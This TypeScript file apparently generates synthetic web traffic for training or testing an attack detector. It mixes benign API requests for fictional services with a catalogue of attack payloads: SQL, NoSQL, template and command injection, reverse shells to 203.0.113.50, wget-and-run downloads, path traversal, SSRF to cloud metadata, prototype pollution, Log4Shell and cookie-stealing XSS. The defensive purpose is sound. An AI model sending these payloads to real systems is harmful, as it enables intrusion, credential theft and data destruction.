    kind: 'prose',
    method: 'PUT',
    path: `/api/pages/${pick(['runbooks', 'eng', 'it', 'support'])}/${pick(['reset-deploy', 'reporting-replica', 'vpn-faq', 'local-dev', 'email-style', 'log-format', 'python-snippets', 'onboarding'])}`,
    headers: browser(H.wiki, jsonCt()),
    body: J({
      page: {
        ...(() => {
          const md = pick(MARKDOWN_PAGES);
          return { title: (/^#+ (.*)$/m.exec(md)?.[1] ?? 'Untitled').trim(), markdown: md };
        })(),
        parent_id: int(1, 300),
        version: int(1, 80),
        minor_edit: rand() > 0.6,
        edit_summary: pick([
          'fix typo',
          'add Windows steps',
          'update for v2 API',
          'clarify DELETE warning',
          '',
        ]),
      },
    }),
  }),
  () => ({
    kind: 'code',
    method: 'POST',
    path: '/api/snippets',
    headers: browser(H.wiki, jsonCt()),
    body: J({
      snippet: (() => {
        const s = pick(CODE_SNIPPETS);
        return { title: `${s.lang} example`, language: s.lang, source: s.source, page_id: int(1, 900) };
      })(),
    }),
  }),
  () => ({
    kind: 'graphql',
    method: 'POST',
    path: '/graphql',
    headers: browser(H.wiki, jsonCt()),
    body: J({
      query:
        'mutation UpdatePage($input: UpdatePageInput!) { updatePage(input: $input) { page { id slug version } errors { field message } } }',
      variables: {
        input: {
          id: String(int(1, 900)),
          markdown: pick(MARKDOWN_PAGES),
          summary: pick(['add troubleshooting section', 'link to runbook', 'minor']),
        },
      },
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/api/search?${qs({ q: pick(['how to drop a table in staging', 'kubectl delete pod', 'select * from users slow', '"connection refused" postgres', 'reset password <admin>', 'C:\\Program Files\\ config', 'sudo apt-get install', 'npm ERR! ERESOLVE', '../ relative imports']), space: pick(['eng', 'it', 'all']), limit: 20 })}`,
    headers: browser(H.wiki),
    body: '',
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/api/pages/${int(1, 900)}/comments`,
    headers: browser(H.wiki, jsonCt()),
    body: J({
      body: pick([
        `This didn't work for me on M1, got:\n\n\`\`\`\n${pick(ERR_LOGS)}\n\`\`\`\n\nAny ideas?`,
        'FYI step 3 is outdated, the flag is now `--protocol=gp` not `--gp`. Fixed it.',
        'Can we add a note that `DELETE FROM` without a WHERE on the replica just errors? New folks panic when they see it in the docs.',
        'Thanks! Saved me an hour 🙏',
        "+1 — also worth mentioning `git reset --hard origin/main` if your branch is hosed (but you'll lose local changes!!)",
        pick(PROSE_INTL),
      ]),
    }),
  }),
  () => {
    const m = multipart([
      { name: 'page_id', value: String(int(1, 900)) },
      {
        name: 'comment',
        value: pick(['nginx error log from prod-2', 'screenshot of the error', 'config used in the example']),
      },
      {
        name: 'file',
        filename: pick([
          'error.log',
          'nginx.conf',
          'Screenshot 2026-11-03 at 09.41.12.png',
          'docker-compose.yml',
        ]),
        type: pick(['text/plain', 'application/octet-stream']),
        value: pick([
          '2026/11/02 13:55:36 [error] 1234#1234: *5678 connect() failed (111: Connection refused) while connecting to upstream, client: 10.2.14.7, server: kb.acme-corp.com, request: "GET /api/pages/12 HTTP/1.1", upstream: "http://127.0.0.1:8080/api/pages/12"',
          CODE_SNIPPETS[5]?.source ?? '',
          'services:\n  db:\n    image: postgres:16\n    environment:\n      POSTGRES_PASSWORD: ${POSTGRES_PASSWORD}\n    volumes:\n      - ./data:/var/lib/postgresql/data',
        ]),
      },
    ]);
    return {
      kind: 'multipart',
      method: 'POST',
      path: '/api/attachments',
      headers: browser(H.wiki, m.ct),
      body: m.body,
    };
  },
  () => ({
    kind: 'i18n',
    method: 'PUT',
    path: `/api/pages/${int(1, 900)}/translations/${pick(['de', 'ja', 'fr', 'pt-BR', 'zh-CN'])}`,
    headers: browser(H.wiki, jsonCt()),
    body: J({
      title: pick([
        'VPN-Anleitung',
        'VPN のよくある質問',
        'FAQ VPN',
        'Perguntas frequentes sobre VPN',
        'VPN 常见问题',
      ]),
      markdown: pick([
        '# VPN-FAQ\n\n1. Client aus „Self Service“ installieren.\n2. Server: `vpn.acme-corp.com`\n3. Bei *„TLS handshake failed“* stimmt meist die Uhrzeit nicht.',
        '# VPN のよくある質問\n\n1. Self Service からクライアントをインストールします。\n2. サーバー: `vpn.acme-corp.com`\n\n> 注意: 時刻がずれていると接続できません。',
        "# FAQ VPN\n\n1. Installez le client depuis Self Service.\n2. Serveur : `vpn.acme-corp.com`\n3. Si vous voyez « TLS handshake failed », vérifiez l'heure de votre machine.",
      ]),
    }),
  }),
  () => ({
    kind: 'delete',
    method: 'DELETE',
    path: `/api/pages/${int(1, 900)}/revisions/${int(1, 80)}`,
    headers: browser(H.wiki),
    body: '',
  }),
];

// extra generators: prose-heavy and awkward-but-clean traffic across domains
const extraGens: Gen[] = [
  () => ({
    kind: 'prose',
    method: 'POST',
    path: '/v1/support/tickets',
    headers: anyClient(pick([H.jobs, H.photo, H.mail, H.league]), jsonCt()),
    body: J({
      subject: pick([
        "Can't upload — error 413",
        'Login loop on Safari',
        'Charged twice',
        'Export missing rows',
      ]),
      message: `${pick(PROSE_EN)}\n\nError I got:\n${pick(ERR_LOGS)}`,
      browser: pick(UA_BROWSER),
      attachments: [],
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: `/v3/leagues/${int(1, 40)}/feedback`,
    headers: mobile(H.league, jsonCt()),
    body: J({ rating: int(1, 5), comment: pick(PROSE_EN), anonymous: rand() > 0.5 }),
  }),
  () => ({
    kind: 'i18n',
    method: 'POST',
    path: '/v1/profile',
    headers: mobile(H.photo, jsonCt()),
    body: J({
      display_name: pick([
        'Zoë ✨',
        'José María',
        '山田太郎',
        'Ólafur Arnalds fan',
        'Ngozi 🇳🇬',
        'Владимир',
        'Łukasz W.',
      ]),
      bio: pick(PROSE_INTL),
      website: pick(['https://zoe.photo', null, 'instagram.com/yamada']),
      locale: pick(['ja-JP', 'es-ES', 'pl-PL', 'ru-RU']),
    }),
  }),
  () => ({
    kind: 'code',
    method: 'PUT',
    path: `/v3/accounts/${int(1, 999)}/custom-code`,
    headers: browser(H.mail, jsonCt()),
    body: J({
      snippet: {
        source:
          "<script async src=\"https://www.googletagmanager.com/gtag/js?id=G-ABC123XYZ\"></script>\n<script>\n  window.dataLayer = window.dataLayer || [];\n  function gtag(){dataLayer.push(arguments);}\n  gtag('js', new Date());\n  gtag('config', 'G-ABC123XYZ');\n</script>",
        placement: 'landing_page_head',
      },
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'PUT',
    path: `/v1/photos/${alnum(11)}/license`,
    headers: sdk(H.photo, jsonCt()),
    body: J({
      license: pick(['CC-BY-4.0', 'CC-BY-NC-SA-4.0', 'all-rights-reserved']),
      attribution: `© 2026 ${person()} — please credit & link back`,
      allow_download: rand() > 0.5,
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/v1/applications/screening-answers',
    headers: browser(H.jobs, jsonCt()),
    body: J({
      application_id: int(10000, 99999),
      answers: [
        {
          q: 'Describe a production incident you handled.',
          a: 'A migration ran `ALTER TABLE orders ADD COLUMN ... DEFAULT now()` on a 400M-row table and locked it. We killed the session, rolled back, and re-ran it as a nullable column + backfill in batches of 10k. Post-mortem: always check `pg_locks` first.',
        },
        { q: 'Are you authorized to work in the US?', a: pick(['Yes', 'No, I will need H-1B sponsorship']) },
        {
          q: 'Favorite shell one-liner?',
          a: pick([
            "find . -name '*.log' -mtime +7 -delete",
            'du -sh * | sort -h',
            "history | awk '{print $2}' | sort | uniq -c | sort -rn | head",
          ]),
        },
      ],
    }),
  }),
  () => ({
    kind: 'form',
    method: 'POST',
    path: '/forms/contact',
    headers: browser(pick([H.permits, H.sis]), 'application/x-www-form-urlencoded; charset=UTF-8'),
    body: qs({
      name: person(),
      email: email(),
      topic: pick(['general', 'billing', 'accessibility']),
      message: pick([...PROSE_EN, ...PROSE_INTL]),
      'g-recaptcha-response': alnum(120),
    }),
  }),
  () => ({
    kind: 'search',
    method: 'GET',
    path: `/v3/contacts?${qs({ 'filter[email]': pick(['%@gmail.com', 'jdoe@example.org', "o'neil"]), 'filter[tag]': pick(TAGS), sort: pick(['-created_at', 'email']), 'page[size]': 100, 'page[number]': int(1, 9) })}`,
    headers: sdk(H.mail, undefined, { accept: 'application/vnd.api+json' }),
    body: '',
  }),
  () => ({
    kind: 'jsonapi',
    method: 'POST',
    path: '/api/v2/assets',
    headers: sdk(H.vuln, 'application/vnd.api+json', { accept: 'application/vnd.api+json' }),
    body: J({
      data: {
        type: 'assets',
        attributes: {
          hostname: pick(['sis-db-02.internal', 'permits-web-01', 'kb.acme-corp.com']),
          ip: `10.${int(0, 255)}.${int(0, 255)}.${int(1, 254)}`,
          os: pick(['Ubuntu 22.04', 'Windows Server 2019', 'Amazon Linux 2023']),
          owner: email(),
          tags: ['prod'],
        },
      },
    }),
  }),
  () => ({
    kind: 'jsonapi',
    method: 'GET',
    path: `/v1/jobs?${qs({ 'filter[department]': pick(['Engineering', 'R&D', 'Sales & Marketing']), include: 'company,location', 'fields[jobs]': 'title,salary,location', 'page[cursor]': b64(String(int(1, 9999))) })}`,
    headers: browser(H.jobs, undefined, { accept: 'application/vnd.api+json' }),
    body: '',
  }),
  () => ({
    kind: 'graphql',
    method: 'GET',
    path: `/graphql?${qs({ query: 'query Photo($id: ID!) { photo(id: $id) { id caption likes comments(first: 10) { text author { handle } } } }', variables: J({ id: alnum(11) }), operationName: 'Photo' })}`,
    headers: mobile(H.photo),
    body: '',
  }),
  () => ({
    kind: 'webhook',
    method: 'POST',
    path: '/webhooks/twilio/sms',
    headers: {
      host: H.sis,
      'user-agent': 'TwilioProxy/1.1',
      'content-type': 'application/x-www-form-urlencoded',
      'x-twilio-signature': b64(hex(20)),
    },
    body: qs({
      ToCountry: 'US',
      SmsMessageSid: `SM${hex(32)}`,
      NumMedia: '0',
      From: `+1555${int(1000000, 9999999)}`,
      Body: pick([
        'STOP',
        'Yes she will be absent today, fever',
        'Who is this?',
        'OK thx!! 👍',
        'Can u call me back',
      ]),
      AccountSid: `AC${hex(32)}`,
      ApiVersion: '2010-04-01',
    }),
  }),
  () => ({
    kind: 'prose',
    method: 'POST',
    path: '/v1/messages',
    headers: browser(H.jobs, jsonCt()),
    body: J({
      thread_id: uuid(),
      text: pick([
        'Hi! Thanks for applying. Are you free Thu 2–4pm ET for a 30-min screen? If not, pick a slot here: https://calendly.com/hirewell-recruiting/30min',
        "Unfortunately we've decided to move forward with other candidates. We'll keep your CV on file (you can ask us to delete it any time — GDPR Art. 17).",
        "Sorry for the delay!! Our ATS had an outage (lol, ironic) and some emails didn't go out.",
        pick(PROSE_EN),
      ]),
    }),
  }),
  () => ({
    kind: 'rest-write',
    method: 'POST',
    path: '/v2/permits/inspections/schedule',
    headers: mobile(H.permits, jsonCt()),
    body: J({
      permit_id: `ELE-2026-${int(1000, 9999)}`,
      inspection_type: pick(['rough-in', 'final', 'footing']),
      preferred_date: isoDate(),
      window: pick(['AM', 'PM']),
      access_notes: pick([
        'Gate code #4471, dog is friendly',
        'Call on arrival — (555) 012-3344',
        'Side door; panel is in the garage behind the freezer',
      ]),
    }),
  }),
  () => ({
    kind: 'code',
    method: 'POST',
    path: `/api/v2/findings/${int(1000, 9999)}/remediation`,
    headers: browser(H.vuln, jsonCt()),
    body: J({
      remediation: {
        summary: 'Use parameterized queries / allow-list for sort column',
        code: pick([
          "const SORTABLE = new Set(['name', 'points', 'goal_diff']);\nconst col = SORTABLE.has(req.query.sort) ? req.query.sort : 'name';\nconst { rows } = await pool.query(`SELECT * FROM standings WHERE league_id = $1 ORDER BY ${col}`, [leagueId]);",
          '# nginx: disable old TLS\nssl_protocols TLSv1.2 TLSv1.3;\nssl_prefer_server_ciphers on;',
          '<dependency>\n  <groupId>org.apache.logging.log4j</groupId>\n  <artifactId>log4j-core</artifactId>\n  <version>2.24.1</version>\n</dependency>',
          'import os\nbase = os.path.realpath(UPLOAD_DIR)\ntarget = os.path.realpath(os.path.join(base, name))\nif not target.startswith(base + os.sep):\n    abort(400)',
        ]),
      },
    }),
  }),
];

// ---------------------------------------------------------------- attack payloads

type Payload = string | Record<string, unknown>;
interface FamilySpec {
  family: string;
  payloads: Payload[];
  techniques: string[];
  /** domain-relevant field names where this family would land */
  fields: string[];
}

/** Parse JSON so that a literal "__proto__" key stays an own property. */
const pj = (t: string): Record<string, unknown> => JSON.parse(t) as Record<string, unknown>;
const FAMILIES: FamilySpec[] = [
  {
    family: 'sql',
    fields: [
      'student_id',
      'sort',
      'q',
      'parcel_id',
      'team_id',
      'status',
      'email',
      'order_by',
      'job_id',
      'search',
    ],
    payloads: [
      "' OR '1'='1' -- ",
      '1 UNION SELECT username,password_hash,email FROM users--',
      "10443;WAITFOR DELAY '0:0:5'--",
      "' AND extractvalue(1,concat(0x7e,(SELECT @@version),0x7e))-- -",
      "1' AND SLEEP(5)#",
      "x'; DROP TABLE students;--",
      '1) OR pg_sleep(7)--',
      "admin'/**/oR/**/1=1#",
      '(SELECT CASE WHEN (SUBSTRING(current_user,1,1)=CHAR(112)) THEN pg_sleep(5) ELSE 1 END)',
      "' UNION ALL SELECT NULL,NULL,string_agg(table_name,',') FROM information_schema.tables-- -",
      '1 AND (SELECT 2222 FROM(SELECT COUNT(*),CONCAT(0x7176,(SELECT database()),FLOOR(RAND(0)*2))x FROM information_schema.plugins GROUP BY x)a)',
      "'; COPY (SELECT '') TO PROGRAM 'curl http://c9x2k1.oast.fun/$(whoami)'--",
      'name,(select*from(select(sleep(10)))a)',
      "-1' UNION SELECT 1,load_file('/etc/passwd'),3-- -",
      "1;EXEC xp_cmdshell 'powershell -c iwr http://203.0.113.50/a.ps1|iex'--",
      '" or ""="',
    ],
    techniques: [
      'plain',
      'nested',
      'array',
      'unicode-escape',
      'json-in-string',
      'base64',
      'graphql-variable',
      'double-encoded',
      'query-param',
      'header',
      'cookie',
      'form',
      'multipart',
      'embedded',
    ],
  },
  {
    family: 'nosql',
    fields: ['password', 'email', 'filter', 'where', 'username', 'token', 'player_id', 'reset_token'],
    payloads: [
      { $ne: null },
      { $gt: '' },
      { $regex: '^adm', $options: 'i' },
      { $where: 'sleep(5000) || true' },
      { $where: "this.role == 'admin' && this.password.match(/^a/)" },
      { $nin: ['x'] },
      { $exists: true },
      {
        $expr: {
          $function: {
            body: "function(){return require('child_process').execSync('id').toString()}",
            args: [],
            lang: 'js',
          },
        },
      },
      { $or: [{ role: 'admin' }, { isAdmin: true }] },
      "'; return db.users.find(); var x='",
      "'||this.password.length>0||'",
      { $lookup: { from: 'users', localField: 'owner', foreignField: '_id', as: 'leak' } },
    ],
    techniques: [
      'plain',
      'nested',
      'key',
      'array',
      'json-in-string',
      'unicode-escape',
      'graphql-variable',
      'query-param',
      'form',
      'base64',
      'cookie',
    ],
  },
  {
    family: 'template',
    fields: [
      'subject',
      'preheader',
      'display_name',
      'merge_fields',
      'greeting',
      'title',
      'signature',
      'footer_text',
    ],
    payloads: [
      "{{constructor.constructor('return process')().mainModule.require('child_process').execSync('id').toString()}}",
      "${T(java.lang.Runtime).getRuntime().exec('cat /etc/passwd')}",
      "{{''.__class__.__mro__[1].__subclasses__()[408]('id',shell=True,stdout=-1).communicate()}}",
      "{{config.__class__.__init__.__globals__['os'].popen('cat /proc/self/environ').read()}}",
      '<#assign ex="freemarker.template.utility.Execute"?new()>${ex("id")}',
      '#set($x=$class.inspect("java.lang.Runtime").type.getRuntime().exec("whoami"))$x',
      "{{ self._TemplateReference__context.cycler.__init__.__globals__.os.popen('id').read() }}",
      "*{T(java.lang.Runtime).getRuntime().exec('curl http://d3lq8v.interact.sh')}",
      '<%= `cat /etc/passwd` %>',
      "{php}system('id');{/php}",
      "{{request.application.__globals__.__builtins__.__import__('os').popen('id').read()}}",
      '{{#with "s" as |string|}}{{#with "e"}}{{#with split as |conslist|}}{{this.pop}}{{this.push (lookup string.sub "constructor")}}{{this.pop}}{{#with string.split as |codelist|}}{{this.pop}}{{this.push "return require(\'child_process\').execSync(\'ls -la\');"}}{{this.pop}}{{#each conslist}}{{#with (string.sub.apply 0 codelist)}}{{this}}{{/with}}{{/each}}{{/with}}{{/with}}{{/with}}{{/with}}',
      "{{ range.constructor(\"return global.process.mainModule.require('child_process').execSync('env')\")() }}",
      '{% set x = cycler.__init__.__globals__.os.popen("wget -qO- http://203.0.113.50/s|sh").read() %}{{ x }}',
      '${"freemarker.template.utility.Execute"?new()("id")}',
      "{{ lipsum.__globals__['os'].popen('id').read() }}",
    ],
    techniques: [
      'plain',
      'nested',
      'array',
      'unicode-escape',
      'json-in-string',
      'base64',
      'graphql-variable',
      'query-param',
      'form',
      'multipart',
      'embedded',
      'header',
    ],
  },
  {
    family: 'command',
    fields: [
      'filename',
      'hostname',
      'resize',
      'convert_opts',
      'target',
      'export_name',
      'image_url',
      'scan_target',
    ],
    payloads: [
      '; cat /etc/passwd',
      '| nc 203.0.113.50 4444 -e /bin/sh',
      '$(curl -s http://203.0.113.50/x.sh|sh)',
      '`id`',
      '&& wget http://203.0.113.50/bot -O /tmp/.b; chmod +x /tmp/.b; /tmp/.b',
      'IMG_0001.jpg; rm -rf /var/www/uploads',
      ';bash -i >& /dev/tcp/203.0.113.50/4444 0>&1',
      '10.0.0.1\nid',
      '$(sleep 10)',
      '127.0.0.1 & powershell -nop -w hidden -enc SQBFAFgAIAAoAE4AZQB3AC0ATwBiAGoAZQBjAHQAIABOAGUAdAAuAFcAZQBiAEMAbABpAGUAbgB0ACkA',
      '| whoami',
      'photo.png";curl${IFS}http://c9x2k1.oast.fun/$(id|base64)"',
      ';${IFS}cat${IFS}/etc/shadow',
      '800x600 -write /var/www/html/shell.php',
      'scan.example.com; python3 -c \'import socket,os,pty;s=socket.socket();s.connect(("203.0.113.50",9001));[os.dup2(s.fileno(),f) for f in (0,1,2)];pty.spawn("/bin/sh")\'',
      '|| ping -c 15 127.0.0.1 ||',
    ],
    techniques: [
      'plain',
      'nested',
      'array',
      'unicode-escape',
      'json-in-string',
      'base64',
      'graphql-variable',
      'double-encoded',
      'query-param',
      'header',
      'form',
      'multipart',
      'embedded',
    ],
  },
  {
    family: 'path-traversal',
    fields: ['filename', 'path', 'template', 'document', 'file', 'avatar', 'attachment', 'theme'],
    payloads: [
      '../../../../etc/passwd',
      '..%2f..%2f..%2f..%2fetc%2fpasswd',
      '....//....//....//....//etc/passwd',
      '..\\..\\..\\..\\windows\\win.ini',
      '/var/www/uploads/../../../etc/shadow',
      '%2e%2e%2f%2e%2e%2f%2e%2e%2fproc%2fself%2fenviron',
      '..%c0%af..%c0%af..%c0%afetc/passwd',
      '../../../../proc/self/environ',
      '../../.env',
      '../../../../root/.ssh/id_rsa',
      '/..;/..;/WEB-INF/web.xml',
      '../../../../../../var/run/secrets/kubernetes.io/serviceaccount/token',
      '..%5c..%5c..%5cwindows%5csystem32%5cconfig%5csam',
      '../../../../../home/app/.aws/credentials',
      '/etc/passwd%00.pdf',
    ],
    techniques: [
      'plain',
      'nested',
      'array',
      'unicode-escape',
      'json-in-string',
      'base64',
      'double-encoded',
      'query-param',
      'multipart',
      'form',
      'header',
      'graphql-variable',
    ],
  },
  {
    family: 'ssrf',
    fields: [
      'webhook_url',
      'avatar_url',
      'import_url',
      'callback_url',
      'feed_url',
      'image_url',
      'logo_url',
      'source_url',
    ],
    payloads: [
      'http://169.254.169.254/latest/meta-data/iam/security-credentials/',
      'http://metadata.google.internal/computeMetadata/v1/instance/service-accounts/default/token',
      'http://[::ffff:a9fe:a9fe]/latest/meta-data/',
      'http://2852039166/latest/user-data',
      'gopher://127.0.0.1:6379/_*1%0d%0a$8%0d%0aflushall%0d%0a*3%0d%0a$3%0d%0aset%0d%0a$1%0d%0a1%0d%0a$64%0d%0a%0a%0a*/1 * * * * bash -i >& /dev/tcp/203.0.113.50/4444 0>&1%0a%0a',
      'file:///etc/passwd',
      'http://localhost:2375/containers/json',
      'dict://127.0.0.1:11211/stats',
      'http://0x7f000001:8080/actuator/env',
      'http://169.254.170.2/v2/credentials',
      'http://100.100.100.200/latest/meta-data/ram/security-credentials/',
      'https://kubernetes.default.svc/api/v1/namespaces/kube-system/secrets',
      'http://127.1:9200/_cat/indices?v',
      'http://169.254.169.254.nip.io/latest/meta-data/',
      'http://[fd00:ec2::254]/latest/api/token',
      'http://0.0.0.0:8500/v1/agent/self',
    ],
    techniques: [
      'plain',
      'nested',
      'array',
      'unicode-escape',
      'json-in-string',
      'base64',
      'graphql-variable',
      'double-encoded',
      'query-param',
      'header',
      'form',
      'multipart',
      'embedded',
    ],
  },
  {
    family: 'prototype-pollution',
    fields: ['settings', 'preferences', 'profile', 'filters', 'options', 'metadata'],
    payloads: [
      pj('{"__proto__":{"isAdmin":true}}'),
      pj('{"constructor":{"prototype":{"role":"admin"}}}'),
      pj(
        '{"__proto__":{"outputFunctionName":"_tmp1;global.process.mainModule.require(\'child_process\').execSync(\'id\');var __tmp2"}}',
      ),
      pj(
        '{"__proto__":{"shell":"/proc/self/exe","argv0":"console.log(require(\'child_process\').execSync(\'id\').toString())//","NODE_OPTIONS":"--require /proc/self/cmdline"}}',
      ),
      pj(
        '{"__proto__":{"sourceURL":"\\u2028\\u2029\\nglobal.process.mainModule.require(\\"child_process\\").execSync(\\"curl http://c9x2k1.oast.fun\\")"}}',
      ),
      pj('{"constructor":{"prototype":{"allowedOrigins":["*"],"verified":true}}}'),
      pj('{"__proto__":{"polluted":"yes","status":500}}'),
      pj(
        '{"__proto__":{"client":1,"escapeFunction":"JSON.stringify; process.mainModule.require(\'child_process\').exec(\'id | nc 203.0.113.50 80\')"}}',
      ),
      pj('{"__proto__":{"content-type":"application/json","type":"admin"}}'),
    ],
    techniques: [
      'plain',
      'nested',
      'key',
      'array',
      'unicode-escape',
      'json-in-string',
      'base64',
      'graphql-variable',
      'query-param',
      'form',
      'multipart',
    ],
  },
  {
    family: 'log4shell',
    fields: ['username', 'display_name', 'search', 'title', 'referrer', 'note', 'device_name'],
    payloads: [
      '${jndi:ldap://c9x2k1.oast.fun/a}',
      '${${lower:j}ndi:${lower:l}dap://d3lq8v.interact.sh/Exploit}',
      '${${::-j}${::-n}${::-d}${::-i}:${::-r}${::-m}${::-i}://203.0.113.50:1099/obj}',
      '${jndi:dns://x7h2.dnslog.cn/log4j}',
      '${${env:NaN:-j}ndi${env:NaN:-:}${env:NaN:-l}dap${env:NaN:-:}//203.0.113.50:1389/TomcatBypass/Command/Base64/d2dldCBodHRwOi8vMjAzLjAuMTEzLjUwL3g=}',
      '${jndi:ldap://${env:AWS_SECRET_ACCESS_KEY}.a1b2c3.oastify.com/a}',
      '${jndi:${lower:l}${lower:d}a${lower:p}://ns1.burpcollaborator.net/z}',
      '${${upper:j}ndi:ldaps://203.0.113.50:636/x}',
      '${j${k8s:k5:-ND}i:ldap://c9x2k1.oast.fun/k8s}',
      '${jndi:ldap://127.0.0.1#evil.oast.fun:1389/a}',
      "${${date:'j'}${date:'n'}${date:'d'}${date:'i'}:ldap://d3lq8v.interact.sh/d}",
      '${jndi:rmi://203.0.113.50:1099/${sys:java.version}}',
      '${${::-j}ndi:iiop://203.0.113.50/x}',
      '${jndi:ldap://${hostName}.${sys:user.name}.x7h2.dnslog.cn/h}',
    ],
    techniques: [
      'plain',
      'nested',
      'array',
      'unicode-escape',
      'json-in-string',
      'base64',
      'graphql-variable',
      'query-param',
      'header',
      'cookie',
      'form',
      'multipart',
      'embedded',
      'double-encoded',
    ],
  },
  {
    family: 'xss',
    fields: ['display_name', 'caption', 'comment', 'title', 'team_name', 'bio', 'company', 'alt_text'],
    payloads: [
      "<script>fetch('https://203.0.113.50/c?'+document.cookie)</script>",
      '<img src=x onerror=alert(document.domain)>',
      '<svg/onload=eval(atob("ZmV0Y2goJy8vZXZpbC5leGFtcGxlL2s/Yz0nK2RvY3VtZW50LmNvb2tpZSk="))>',
      '"><iframe src=javascript:alert(1)>',
      "<a href=\"javascript:fetch('//203.0.113.50/'+localStorage.getItem('token'))\">view profile</a>",
      '<details open ontoggle=import("//c9x2k1.oast.fun/x.js")>',
      '<math><mtext><table><mglyph><style><img src=x onerror=alert(1)></style></mglyph></table></mtext></math>',
      'javascript:alert(document.cookie)//',
      '<body onload=location="//evil.example/?c="+document.cookie>',
      '<input autofocus onfocus=alert(1)>',
      "'-alert(document.cookie)-'",
      '<svg><animate onbegin=alert(1) attributeName=x dur=1s>',
      '<object data="data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg=="></object>',
      '<x contenteditable onblur=alert(1)>lose focus</x>',
      '</textarea><script src=//xss.report/c/u></script>',
      '<img src="x" onerror="this.src=\'//203.0.113.50/?\'+document.cookie">',
    ],
    techniques: [
      'plain',
      'nested',
      'array',
      'unicode-escape',
      'json-in-string',
      'base64',
      'graphql-variable',
      'double-encoded',
      'query-param',
      'header',
      'cookie',
      'form',
      'multipart',
      'embedded',
    ],
  },
];

// domain contexts used to carry attacks
interface Ctx {
  host: string;
  path: string;
  search: string;
  gql: string;
}
const CTXS: Ctx[] = [
  { host: H.permits, path: '/v2/permits/applications', search: '/v2/permits/search', gql: '/graphql' },
  { host: H.sis, path: '/api/v1/students', search: '/api/v1/students', gql: '/graphql' },
  { host: H.jobs, path: '/v1/applications', search: '/v1/jobs/search', gql: '/graphql' },
  { host: H.league, path: '/v3/teams', search: '/v3/standings', gql: '/graphql' },
  { host: H.photo, path: '/v1/photos', search: '/v1/explore', gql: '/graphql' },
  { host: H.mail, path: '/v3/campaigns', search: '/v3/contacts', gql: '/graphql' },
  { host: H.vuln, path: '/api/v2/findings', search: '/api/v2/findings', gql: '/graphql' },
  { host: H.wiki, path: '/api/pages', search: '/api/search', gql: '/graphql' },
];

/** Escape every non-alphanumeric character inside JSON string literals as \uXXXX. */
function unicodeEscapeJson(value: unknown): string {
  return JSON.stringify(value, null, 0).replace(/"((?:[^"\\]|\\.)*)"/g, (_m, inner: string) => {
    const raw = JSON.parse(`"${inner}"`) as string;
    let out = '';
    for (const ch of raw) {
      const c = ch.codePointAt(0) ?? 0;
      out += /[A-Za-z0-9]/.test(ch) || c > 0xffff ? ch : `\\u${c.toString(16).padStart(4, '0')}`;
    }
    return `"${out}"`;
  });
}

const asString = (p: Payload): string => (typeof p === 'string' ? p : J(p));
const SENTENCES: [string, string][] = [
  ['Hi, please update the listing, new value is ', ' — thanks!'],
  ['Following up on my application, my portfolio is ', ' if you need it.'],
  ['Great game today! Final note from the coach: ', ' See you Saturday.'],
  ['Love this shot 😍 ', ' where was it taken?'],
  ['Per our call, the contractor name should read ', ', everything else is fine.'],
  ['Ticket update: repro steps attached, the value I used was ', ' on staging.'],
  ['Can someone fix the title of this page? It should be ', ' (typo).'],
  ['Reminder for families: bring ', ' to the field trip.'],
];

/** First leaf of a prototype-pollution object as a bracket-notation form field. */
function ppField(o: Record<string, unknown>): { name: string; value: string } {
  const top = Object.keys(o)[0] ?? '__proto__';
  const inner = (top === '__proto__' ? o[top] : (o[top] as Record<string, unknown>).prototype) as Record<
    string,
    unknown
  >;
  const [k, v] = Object.entries(inner)[0] ?? ['isAdmin', true];
  const prefix = top === '__proto__' ? '__proto__' : 'constructor[prototype]';
  return { name: `${prefix}[${k}]`, value: typeof v === 'string' ? v : J(v) };
}

function attackFor(spec: FamilySpec, payload: Payload, technique: string): AttackDraft {
  const ctx = pick(CTXS);
  const field = pick(spec.fields);
  const s = asString(payload);
  const base = { family: spec.family, technique };
  const normal = { name: person(), email: email(), note: pick(['see attached', 'thanks', 'ok']) };
  const ct = jsonCt();
  const family = spec.family;
  // prototype-pollution objects must be serialized with their own __proto__ key
  const objJson = (o: Record<string, unknown>): string => J(o);
  switch (technique) {
    case 'plain': {
      if (typeof payload !== 'string') {
        if (family === 'prototype-pollution') {
          const inner = objJson(payload);
          return {
            ...base,
            kind: 'merge-patch',
            method: 'PATCH',
            path: `${ctx.path}/${int(100, 9999)}`,
            headers: anyClient(ctx.host, 'application/merge-patch+json'),
            body: `{"display_name":${J(person())},${inner.slice(1)}`,
          };
        }
        const bodyObj: Record<string, unknown> = {
          ...(field === 'password' ? { email: email() } : { email: email() }),
          [field]: payload,
        };
        return {
          ...base,
          kind: 'rest-write',
          method: 'POST',
          path: pick(['/v1/auth/login', '/api/v1/auth/session', `${ctx.path}/lookup`]),
          headers: anyClient(ctx.host, ct),
          body: J(bodyObj),
        };
      }
      return {
        ...base,
        kind: 'rest-write',
        method: 'POST',
        path: ctx.path,
        headers: anyClient(ctx.host, ct),
        body: J({ ...normal, [field]: s }),
      };
    }
    case 'nested': {
      if (family === 'prototype-pollution') {
        const inner = objJson(payload as Record<string, unknown>);
        return {
          ...base,
          kind: 'rest-write',
          method: 'PUT',
          path: `${ctx.path}/${int(100, 9999)}/settings`,
          headers: anyClient(ctx.host, ct),
          body: `{"user":{"id":${int(1, 9999)},"preferences":{"theme":"dark","notifications":${inner}}}}`,
        };
      }
      const v: unknown = payload;
      return {
        ...base,
        kind: 'rest-write',
        method: 'PUT',
        path: `${ctx.path}/${int(100, 9999)}`,
        headers: anyClient(ctx.host, ct),
        body: J({ data: { attributes: { meta: { [field]: v }, updated_by: person() } } }),
      };
    }
    case 'key': {
      if (family === 'prototype-pollution') {
        const obj = payload as Record<string, unknown>;
        const top = Object.keys(obj)[0] ?? '__proto__';
        const innerObj = (
          top === '__proto__' ? obj[top] : (obj[top] as Record<string, unknown>).prototype
        ) as Record<string, unknown>;
        const prefix = top === '__proto__' ? '/__proto__' : '/constructor/prototype';
        const ops = Object.entries(innerObj).map(([k, v]) => ({
          op: 'add',
          path: `${prefix}/${k}`,
          value: v,
        }));
        return {
          ...base,
          kind: 'json-patch',
          method: 'PATCH',
          path: `${ctx.path}/${int(100, 9999)}`,
